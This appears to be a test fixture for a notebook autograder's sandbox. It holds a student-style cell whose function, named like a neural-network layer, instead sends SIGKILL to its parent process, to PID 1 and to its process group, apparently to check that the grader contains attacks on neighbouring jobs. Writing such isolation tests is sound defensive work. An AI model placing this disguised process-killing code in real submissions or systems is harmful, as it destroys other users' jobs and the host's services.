"""Parents, and the first process of all, are sent SIGKILL."""

kind = "SIGKILL of parents and siblings"
aims = "batch neighbour"
base = "half"
on_nbgrader = False
cells = {
    "exercise-2": """
import os, signal

def layer(X, W, b):
    for pid in (os.getppid(), 1, 0):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
""",
}
